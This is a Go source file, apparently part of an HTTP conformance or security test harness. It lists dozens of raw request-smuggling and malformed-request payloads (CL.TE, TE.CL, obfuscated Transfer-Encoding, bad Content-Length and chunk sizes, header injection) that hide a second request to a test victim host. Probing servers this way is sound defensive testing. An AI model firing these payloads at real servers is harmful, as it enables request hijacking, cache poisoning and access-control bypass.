package attack

import "strings"

// hidden is a request to the victim that a body of another request hides.
const hidden = "GET /{mark}-hidden HTTP/1.1\r\nHost: victim.test\r\nX-Mark: {mark}\r\nConnection: close\r\n\r\n"

// post is a request whose framing is the attack: headers, and what follows them.
func post(headers, rest string) string {
	return "POST /post HTTP/1.1\r\nHost: mine.test\r\nConnection: close\r\n" + headers + "\r\n" + rest
}

// ambiguous is a body that two parsers end at different places: by its chunks at once, by its length after hidden.
func ambiguous(headers string) string { return post(headers, "0\r\n\r\n"+hidden) }

const both = "Content-Length: {rest}\r\n"

// one body: hidden stays what it is.
func oneBody(e echoed) string {
	if !strings.HasPrefix(e.Body, "0\r\n\r\nGET") {
		return "the body is another one"
	}
	return ""
}

// framing are requests whose end is not clear (RFC 9112, 6.3 and 11.2).
var framing = []raw{
	{name: "CL.TE", bytes: ambiguous(both + "Transfer-Encoding: chunked\r\n")},
	{name: "TE.CL", bytes: ambiguous("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n")},
	{name: "CL 0 and TE", bytes: ambiguous("Content-Length: 0\r\nTransfer-Encoding: chunked\r\n")},
	{name: "TE in other letters", bytes: ambiguous(both + "tRANSFER-eNCODING: CHUNKED\r\n")},
	{name: "TE unknown", bytes: ambiguous("Transfer-Encoding: xchunked\r\n")},
	{name: "TE unknown and CL", bytes: ambiguous(both + "Transfer-Encoding: xchunked\r\n")},
	{name: "TE identity and CL", bytes: ambiguous("Content-Length: 5\r\nTransfer-Encoding: identity\r\n")},
	{name: "TE identity, then chunked", bytes: ambiguous("Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n")},
	{name: "TE chunked, then identity", bytes: ambiguous("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n")},
	{name: "TE chunked, identity in one", bytes: ambiguous("Transfer-Encoding: chunked, identity\r\n")},
	{name: "TE chunked twice", bytes: ambiguous("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n")},
	{name: "TE chunked twice in one", bytes: ambiguous("Transfer-Encoding: chunked, chunked\r\n")},
	{name: "TE gzip, chunked", bytes: ambiguous("Transfer-Encoding: gzip, chunked\r\n")},
	{name: "TE empty", bytes: ambiguous(both + "Transfer-Encoding:\r\n")},
	{name: "TE with a vertical tab", bytes: ambiguous("Content-Length: 5\r\nTransfer-Encoding: \x0bchunked\r\n")},
	{name: "TE with a form feed", bytes: ambiguous("Content-Length: 5\r\nTransfer-Encoding: chunked\x0c\r\n")},
	{name: "TE in quotes", bytes: ambiguous("Content-Length: 5\r\nTransfer-Encoding: \"chunked\"\r\n")},
	{name: "TE with a parameter", bytes: ambiguous("Content-Length: 5\r\nTransfer-Encoding: chunked;q=1\r\n")},
	{name: "TE before a space and a colon", bytes: ambiguous(both + "Transfer-Encoding : chunked\r\n")},
	{name: "TE before a tab and a colon", bytes: ambiguous(both + "Transfer-Encoding\t: chunked\r\n")},
	{name: "TE after a line of spaces", bytes: ambiguous(both + " Transfer-Encoding: chunked\r\n")},
	{name: "TE folded", bytes: ambiguous(both + "Transfer-Encoding:\r\n chunked\r\n")},
	{name: "TE in a folded value", bytes: ambiguous(both + "X-Fold: a\r\n\tTransfer-Encoding: chunked\r\n"), want: harmless, check: oneBody},
	{name: "TE behind a bare line feed", bytes: ambiguous(both + "X-A: b\nTransfer-Encoding: chunked\r\n")},
	{name: "TE behind a bare carriage return", bytes: ambiguous(both + "X-A: b\rTransfer-Encoding: chunked\r\n"),
		want: harmless, check: oneBody},
	{name: "TE behind a NUL", bytes: ambiguous(both + "X-A: b\x00Transfer-Encoding: chunked\r\n")},
	{name: "TE with a NUL", bytes: ambiguous("Content-Length: 5\r\nTransfer-Encoding: chunked\x00\r\n")},
	{name: "TE in HTTP 1.0", bytes: strings.Replace(ambiguous(both+"Transfer-Encoding: chunked\r\n"), "HTTP/1.1", "HTTP/1.0", 1)},
	{name: "TE alone in HTTP 1.0",
		bytes: strings.Replace(ambiguous("Transfer-Encoding: chunked\r\n"), "HTTP/1.1", "HTTP/1.0", 1), want: either},

	{name: "CL twice", bytes: post("Content-Length: 0\r\nContent-Length: {rest}\r\n", hidden)},
	{name: "CL twice the same", bytes: post("Content-Length: 0\r\nContent-Length: 0\r\n", hidden)},
	{name: "CL list", bytes: post("Content-Length: 0, {rest}\r\n", hidden)},
	{name: "CL list of the same", bytes: post("Content-Length: 0, 0\r\n", hidden)},
	{name: "CL with a plus", bytes: post("Content-Length: +0\r\n", hidden)},
	{name: "CL negative", bytes: post("Content-Length: -1\r\n", hidden)},
	{name: "CL hexadecimal", bytes: post("Content-Length: 0x0\r\n", hidden)},
	{name: "CL with a space inside", bytes: post("Content-Length: 0 0\r\n", hidden)},
	{name: "CL before a space and a colon", bytes: post("Content-Length : {rest}\r\n", hidden)},
	{name: "CL beyond 64 bits", bytes: post("Content-Length: 18446744073709551616\r\n", hidden)},
	{name: "CL empty", bytes: post("Content-Length:\r\n", hidden)},
	{name: "CL of letters", bytes: post("Content-Length: zero\r\n", hidden)},

	{name: "chunk size with a prefix", bytes: post("Transfer-Encoding: chunked\r\n", "0x0\r\n\r\n"+hidden)},
	{name: "chunk size negative", bytes: post("Transfer-Encoding: chunked\r\n", "-1\r\n\r\n"+hidden)},
	{name: "chunk size beyond 64 bits", bytes: post("Transfer-Encoding: chunked\r\n", "10000000000000000\r\n\r\n"+hidden)},
	{name: "chunk size after a space", bytes: post("Transfer-Encoding: chunked\r\n", " 0\r\n\r\n"+hidden)},
	{name: "chunk size empty", bytes: post("Transfer-Encoding: chunked\r\n", "\r\n\r\n"+hidden)},
	{name: "chunk longer than its size", bytes: post("Transfer-Encoding: chunked\r\n", "1\r\nab\r\n0\r\n\r\n"+hidden)},
	{name: "chunk that ends with a bare line feed", bytes: post("Transfer-Encoding: chunked\r\n", "1\r\na\n0\r\n\r\n"+hidden)},
	{name: "chunk extension with a bare line feed", bytes: post("Transfer-Encoding: chunked\r\n", "1;a\nb\r\nx\r\n0\r\n\r\n"+hidden)},
	{name: "chunk extension with a bare carriage return", bytes: post("Transfer-Encoding: chunked\r\n", "1;a\rb\r\nx\r\n0\r\n\r\n"+hidden)},
}

// parsing are requests that are none.
var parsing = []raw{
	{name: "HTTP 0.9", bytes: "GET /{mark}\r\n\r\n"},
	{name: "HTTP 1.2", bytes: "GET /{mark} HTTP/1.2\r\nHost: mine.test\r\nConnection: close\r\n\r\n", want: either},
	{name: "HTTP 2.0 in text", bytes: "GET /{mark} HTTP/2.0\r\nHost: mine.test\r\nConnection: close\r\n\r\n", want: either},
	{name: "version in small letters", bytes: "GET /{mark} http/1.1\r\nHost: mine.test\r\n\r\n"},
	{name: "version with more digits", bytes: "GET /{mark} HTTP/1.10\r\nHost: mine.test\r\n\r\n"},
	{name: "two targets", bytes: "GET /a /{mark} HTTP/1.1\r\nHost: mine.test\r\nConnection: close\r\n\r\n"},
	{name: "tab in the request line", bytes: "GET\t/{mark}\tHTTP/1.1\r\nHost: mine.test\r\nConnection: close\r\n\r\n", want: either},
	{name: "header before the request line", bytes: " X-A: b\r\nGET /{mark} HTTP/1.1\r\nHost: mine.test\r\n\r\n"},
	{name: "bare line feeds", bytes: "GET /{mark} HTTP/1.1\nHost: mine.test\nConnection: close\n\n", want: either},
	{name: "line feed in a value", bytes: request("mine.test", "X-A: b\nHost: victim.test")},
	{name: "carriage return in a value", bytes: request("mine.test", "X-A: b\rHost: victim.test"), want: either, check: hostIs(mineHost)},
	{name: "NUL in a value", bytes: request("mine.test", "X-A: b\x00c")},
	{name: "NUL in a name", bytes: request("mine.test", "X-\x00A: b")},
	{name: "control characters in a value", bytes: request("mine.test", "X-A: \x01\x02\x7f")},
	{name: "folded header", bytes: request("mine.test", "X-A: b\r\n Host: victim.test"), want: either, check: hostIs(mineHost)},
	{name: "space before the colon", bytes: request("mine.test", "X-A : b")},
	{name: "space in a name", bytes: request("mine.test", "X A: b")},
	{name: "no colon", bytes: request("mine.test", "X-A")},
	{name: "no name", bytes: request("mine.test", ": b")},
	{name: "name in quotes", bytes: request("mine.test", "\"Host\": victim.test")},
	{name: "bytes beyond ASCII in a name", bytes: request("mine.test", "X-\xff: b")},
	{name: "method with a control character", bytes: "G\x01T /{mark} HTTP/1.1\r\nHost: mine.test\r\nConnection: close\r\n\r\n"},
	{name: "expectation of something else", bytes: request("mine.test", "Expect: 200-ok"), want: either},
	{name: "TLS on a cleartext port", bytes: "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03{mark}\r\n\r\n"},
	{name: "PROXY protocol", bytes: "PROXY TCP4 10.0.0.1 10.0.0.2 1 80\r\nGET /{mark} HTTP/1.1\r\nHost: mine.test\r\n\r\n"},
	{name: "PROXY protocol 2", bytes: "\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\x0a\x00\x00\x01\x0a\x00\x00\x02\x00\x01\x00\x50" +
		"GET /{mark} HTTP/1.1\r\nHost: mine.test\r\n\r\n"},
}
